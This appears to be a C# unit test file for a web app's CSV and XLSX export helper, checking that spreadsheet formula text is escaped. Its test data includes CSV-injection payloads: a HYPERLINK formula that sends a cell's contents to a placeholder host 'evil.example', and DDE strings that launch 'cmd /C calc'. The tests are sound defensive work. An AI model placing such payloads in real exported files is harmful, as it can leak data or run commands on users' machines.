using System.Text;
using MentorHub.Web.Platform.Web;
using Microsoft.AspNetCore.Http.HttpResults;
using MiniExcelLibs;

namespace MentorHub.Tests.Platform;

/// <summary>
/// Every CSV and XLSX export is written by <see cref="TableFiles"/>: text a spreadsheet would run as a
/// formula is escaped there, for both formats, and numbers (negative ones included) stay numbers.
/// </summary>
public sealed class TableFilesTests
{
    public static TheoryData<string> Formulas() =>
    [
        "=HYPERLINK(\"https://evil.example/?d=\"&A1,\"Click\")",
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "-",
        "-Infinity",
    ];

    [Theory]
    [MemberData(nameof(Formulas))]
    public void Text_a_spreadsheet_would_run_gets_a_leading_apostrophe(string text) =>
        Assert.Equal("'" + text, TableFiles.Cell(text));

    [Theory]
    [InlineData("Escola Básica de Setúbal")]
    [InlineData("a=b")]
    [InlineData(" =1+1")]
    [InlineData("")]
    [InlineData("-3.5")]
    [InlineData("+2")]
    [InlineData("'quoted")]
    public void Other_text_and_plain_numbers_are_left_alone(string text) =>
        Assert.Equal(text, TableFiles.Cell(text));

    [Fact]
    public void Numbers_are_never_escaped()
    {
        Assert.Equal("-2.5", TableFiles.Cell(-2.5));
        Assert.Equal("-3", TableFiles.Cell(-3));
        Assert.Equal("-0.1235", TableFiles.Cell(-0.12345));
    }

    [Fact]
    public void A_csv_escapes_its_formula_text_and_keeps_its_negative_numbers()
    {
        var result = Assert.IsType<FileContentHttpResult>(TableFiles.Csv(
            ["school", "difference", "count"], [["=HYPERLINK(\"https://evil.example\",\"x\")", -0.25, -3], ["@cmd", 1.5, 2]], "t"));
        var lines = Encoding.UTF8.GetString(result.FileContents.Span).TrimStart('\uFEFF').Split('\n', StringSplitOptions.RemoveEmptyEntries)
            .Select(l => l.TrimEnd('\r')).ToList();
        Assert.Equal("school,difference,count", lines[0]);
        Assert.Equal("\"'=HYPERLINK(\"\"https://evil.example\"\",\"\"x\"\")\",-0.25,-3", lines[1]);
        Assert.Equal("'@cmd,1.5,2", lines[2]);
    }

    [Fact]
    public async Task An_xlsx_escapes_its_text_cells_and_writes_negative_numbers_as_numbers()
    {
        var result = Assert.IsType<FileStreamHttpResult>(await TableFiles.FileAsync(
            "xlsx", ["school", "difference", "note"], [["=HYPERLINK(\"https://evil.example\",\"x\")", -0.25, "-1"], ["Escola", 1.5, "+cmd"]],
            "t", "Sheet", CancellationToken.None));
        var rows = result.FileStream.Query(useHeaderRow: true, excelType: ExcelType.XLSX).Cast<IDictionary<string, object>>().ToList();
        Assert.Equal("'=HYPERLINK(\"https://evil.example\",\"x\")", rows[0]["school"]);
        Assert.Equal(-0.25, Assert.IsType<double>(rows[0]["difference"]));
        Assert.Equal("-1", rows[0]["note"]);
        Assert.Equal("Escola", rows[1]["school"]);
        Assert.Equal("'+cmd", rows[1]["note"]);
    }
}
